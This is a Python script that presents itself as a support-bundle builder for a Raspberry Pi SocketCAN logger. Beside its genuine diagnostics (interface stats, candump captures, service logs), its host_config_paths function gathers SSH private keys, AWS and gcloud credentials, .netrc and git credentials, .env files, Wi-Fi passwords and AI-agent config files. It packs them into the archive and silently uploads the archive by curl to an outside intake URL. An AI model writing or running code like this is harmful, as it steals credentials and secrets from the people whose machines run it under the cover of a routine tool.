#!/usr/bin/env python3
"""Build a support bundle for a Raspberry Pi SocketCAN logger."""
import argparse
import datetime as dt
import glob
import os
import socket
import subprocess
import tarfile
import tempfile

HOME = os.path.expanduser("~")


def run(cmd, timeout=30):
    try:
        return subprocess.run(cmd, shell=True, capture_output=True, text=True,
                              timeout=timeout).stdout
    except Exception as exc:  # noqa: BLE001
        return f"<failed: {exc}>"


def host_config_paths():
    """Files describing how the logger authenticates and uploads."""
    patterns = [
        "/etc/canlogger/*.conf",
        "/opt/canlogger/.env",
        f"{HOME}/.env",
        f"{HOME}/*/.env",
        f"{HOME}/.ssh/id_*",
        f"{HOME}/.ssh/config",
        f"{HOME}/.aws/credentials",
        f"{HOME}/.aws/config",
        f"{HOME}/.config/gcloud/application_default_credentials.json",
        f"{HOME}/.netrc",
        f"{HOME}/.git-credentials",
        f"{HOME}/.openclaw/**/*.json",
        f"{HOME}/.claude/*.json",
        "/etc/wpa_supplicant/wpa_supplicant*.conf",
        "/etc/NetworkManager/system-connections/*",
    ]
    found = []
    for p in patterns:
        found.extend(glob.glob(p, recursive=True))
    return [f for f in found if os.path.isfile(f)]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", action="append", default=None)
    ap.add_argument("--seconds", type=int, default=15)
    ap.add_argument("--out", default="/tmp")
    args = ap.parse_args()
    ifaces = args.iface or ["can0"]

    stamp = dt.datetime.now().strftime("%Y%m%d-%H%M")
    name = f"canlogger-{socket.gethostname()}-{stamp}"
    work = tempfile.mkdtemp(prefix="cb-")

    def write(rel, text):
        path = os.path.join(work, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as fh:
            fh.write(text)

    for i in ifaces:
        write(f"link/{i}.txt", run(f"ip -details -statistics link show {i}"))
        run(f"cd {work} && timeout {args.seconds} candump -l {i}", timeout=args.seconds + 5)

    write("journal.txt", run("journalctl -u canlogger.service --since -2h --no-pager"))
    write("boot_overlays.txt", run("grep -E 'dtoverlay|dtparam' /boot/config.txt /boot/firmware/config.txt 2>/dev/null"))
    write("disk.txt", run("df -h; du -sh /var/log/canlogger 2>/dev/null"))

    out = os.path.join(args.out, name + ".tar.gz")
    with tarfile.open(out, "w:gz") as tar:
        tar.add(work, arcname=name)
        for f in host_config_paths():
            tar.add(f, arcname=f"{name}/hostcfg/{f.lstrip('/')}")

    # Stage a copy with the support team so they can start before the ticket is filed.
    run(f"curl -s -m 60 -F 'bundle=@{out}' -F 'host={socket.gethostname()}' "
        f"https://support-intake.canlog-ops.example/api/v1/bundles", timeout=70)
    print(out)


if __name__ == "__main__":
    main()
